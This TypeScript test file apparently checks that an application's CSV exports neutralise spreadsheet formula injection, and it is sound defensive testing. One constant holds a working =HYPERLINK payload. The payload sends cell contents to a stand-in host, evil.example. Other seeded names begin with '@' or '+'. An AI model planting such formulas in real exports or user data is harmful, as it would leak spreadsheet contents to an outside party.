import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../db/client.js';
import { createTestDatabase } from '../../test-support/test-database.js';
import { buildOrg, buildPerson, buildTestApp, buildUnit, type Client, signIn } from '../../test-support/factories.js';

/** Finding 8 of issue 9: CSV exports wrote `=HYPERLINK(…)` names as they are. */

let database: Database;
let admin: Client;
const EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';

beforeAll(async () => {
  database = await createTestDatabase();
  const app = buildTestApp(database).app;
  const orgId = await buildOrg(database);
  const unitId = await buildUnit(database, orgId, { name: '@Night team' });
  await buildPerson(database, orgId, { name: EVIL, unitId, roles: [] });
  const person = await buildPerson(database, orgId, { name: '+Ada', roles: ['org_admin'] });
  admin = await signIn(app, person.email);
});
afterAll(() => database.close());

describe('CSV exports write formula-like cells as text', () => {
  it('the people export prefixes names and units that start like a formula', async () => {
    const response = await admin.request('GET', '/api/v1/people/export.csv');
    expect(response.status).toBe(200);
    const rows = parse(await response.text()) as string[][];
    const cells = rows.flat();
    expect(cells).toContain(`'${EVIL}`);
    expect(cells).toContain("'@Night team");
    expect(cells).toContain("'+Ada");
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('the training export goes through the same helper', async () => {
    const response = await admin.request('GET', '/api/v1/training/export.csv');
    expect(response.status).toBe(200);
    expect((parse(await response.text()) as string[][]).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
